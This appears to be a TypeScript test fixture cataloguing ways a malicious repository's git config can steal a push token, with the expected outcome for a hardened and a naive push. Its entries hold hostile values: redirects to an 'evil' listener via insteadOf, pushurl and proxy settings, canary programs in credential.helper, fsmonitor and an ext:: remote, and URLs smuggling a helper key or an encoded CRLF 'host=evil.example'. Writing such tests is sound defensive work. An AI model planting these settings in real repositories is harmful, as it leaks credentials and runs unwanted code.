import { writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import type { WorkTree } from '../sandbox/workTree.ts';
import type { EvilListener } from './evilListener.ts';

const url = 'https://github.com/acme/app.git';

export interface Arranged {
  readonly tree: WorkTree;
  readonly evil: EvilListener;
  /** A program that leaves a mark, and the environment it saw, when anything runs it. */
  readonly canary: string;
}

/** What becomes of the token when it is pushed with as others do: from the person's repository, by a header of git. */
export type Naively = 'heard' | 'robbed by a program' | 'harmless';

/** Each line of the catalogue: how the repository attacks, how our push must end, and how a naive one ends. */
export const attacks: readonly (readonly [
  string,
  (arranged: Arranged) => Promise<unknown>,
  'pushed' | 'pushUrlElsewhere' | 'remoteRefused',
  Naively,
])[] = [
  [
    'A01 url.<evil>.insteadOf',
    ({ tree, evil }) => tree.git('config', `url.${evil.url}/.insteadOf`, 'https://github.com/'),
    'pushed',
    'heard',
  ],
  [
    'A02 pushurl to another host',
    ({ tree, evil }) => tree.git('config', 'remote.origin.pushurl', `${evil.url}/acme/app.git`),
    'pushUrlElsewhere',
    'heard',
  ],
  [
    'A02 url.<evil>.pushInsteadOf',
    ({ tree, evil }) => tree.git('config', `url.${evil.url}/.pushInsteadOf`, 'https://github.com/'),
    'pushUrlElsewhere',
    'heard',
  ],
  ['A03 http.proxy', ({ tree, evil }) => tree.git('config', 'http.proxy', evil.url), 'pushed', 'harmless'],
  [
    'A03 http.<full url>.proxy',
    async ({ tree, evil }) => {
      await tree.git('config', `http.${url}.proxy`, evil.url);
      await tree.git('config', `http.${url}.sslVerify`, 'false');
      await tree.git('config', 'remote.origin.proxy', evil.url);
    },
    'pushed',
    'heard',
  ],
  [
    'A07 credential.helper',
    async ({ tree, canary }) => {
      await tree.git('config', 'credential.helper', `!${canary}`);
      await tree.git('config', `credential.${url}.helper`, `!${canary}`);
      await tree.git('config', 'core.askPass', canary);
    },
    'pushed',
    'harmless',
  ],
  [
    'A10 programs named by the file',
    async ({ tree, canary }) => {
      for (const key of [
        'core.fsmonitor',
        'core.sshCommand',
        'gpg.program',
        'core.askPass',
        'diff.external',
        'core.editor',
        'core.pager',
        'filter.x.clean',
        'filter.x.process',
        'core.gitProxy',
        'uploadpack.packObjectsHook',
        'core.alternateRefsCommand',
      ]) {
        await tree.git('config', key, canary);
      }
      await tree.git('config', 'push.gpgSign', 'true');
      await tree.git('config', 'log.showSignature', 'true');
      await writeFile(join(tree.folder, '.git', 'info', 'attributes'), '* filter=x diff=x\n');
    },
    'pushed',
    'harmless',
  ],
  [
    'A11 push.recurseSubmodules',
    ({ tree }) => tree.git('config', 'push.recurseSubmodules', 'on-demand'),
    'pushed',
    'harmless',
  ],
  [
    'A13 include.path and includeIf',
    async ({ tree, evil, canary }) => {
      const included = join(tree.folder, 'evil.inc');
      await writeFile(
        included,
        `[url "${evil.url}/"]\n\tinsteadOf = https://github.com/\n[remote "origin"]\n\tpushurl = ${evil.url}/x\n[core]\n\tfsmonitor = ${canary}\n[http]\n\tproxy = ${evil.url}\n`,
      );
      await tree.git('config', 'include.path', included);
      await tree.git('config', 'includeIf.gitdir:**.path', included);
    },
    'pushed',
    'heard',
  ],
  [
    'A15 remote.origin.vcs',
    ({ tree }) => tree.git('config', 'remote.origin.vcs', 'ext'),
    'remoteRefused',
    'harmless',
  ],
  [
    'A15 an ext:: remote',
    async ({ tree, canary }) => {
      await tree.git('config', 'protocol.ext.allow', 'always');
      await tree.git('config', 'remote.origin.url', `ext::${canary} %S`);
    },
    'remoteRefused',
    'robbed by a program',
  ],
  [
    'A15 a file:// remote',
    ({ tree }) => tree.git('config', 'remote.origin.url', 'file:///srv/acme/app.git'),
    'remoteRefused',
    'harmless',
  ],
  [
    'A15 an http:// remote',
    ({ tree }) => tree.git('config', 'remote.origin.url', 'http://github.com/acme/app.git'),
    'remoteRefused',
    'harmless',
  ],
  [
    'A21 a remote URL that would be a configuration key',
    ({ tree, canary }) =>
      tree.git('config', 'remote.origin.url', `https://github.com:443.helper=!${canary}/o/r`),
    'remoteRefused',
    'harmless',
  ],
  [
    'B01 a host that only looks like it',
    ({ tree, evil }) =>
      tree.git('config', 'remote.origin.url', `https://github.com@127.0.0.1:${evil.port}/acme/app`),
    'remoteRefused',
    'harmless',
  ],
  [
    'B02 a host two readers read differently',
    ({ tree, evil }) =>
      tree.git('config', 'remote.origin.url', `https://github.com\\@127.0.0.1:${evil.port}/acme/app`),
    'remoteRefused',
    'harmless',
  ],
  [
    'B03 an encoded line break',
    ({ tree }) =>
      tree.git('config', 'remote.origin.url', 'https://github.com/acme/app%0d%0ahost=evil.example'),
    'remoteRefused',
    'harmless',
  ],
];
